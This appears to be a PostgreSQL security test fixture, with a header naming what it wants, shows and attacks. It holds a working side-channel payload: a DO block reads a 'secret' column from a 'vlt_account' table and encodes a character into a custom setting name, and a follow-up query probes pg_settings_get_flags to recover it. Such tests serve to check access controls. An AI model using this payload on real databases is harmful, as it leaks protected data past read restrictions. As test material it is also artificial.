-- Makes up a parameter by a letter in a block that is refused, and asks for its flags.
-- wants: read
-- shows: letter-116
-- attack:
DO $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', true);
END $$;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE pg_settings_get_flags('x.y1_{n}') IS NOT NULL;
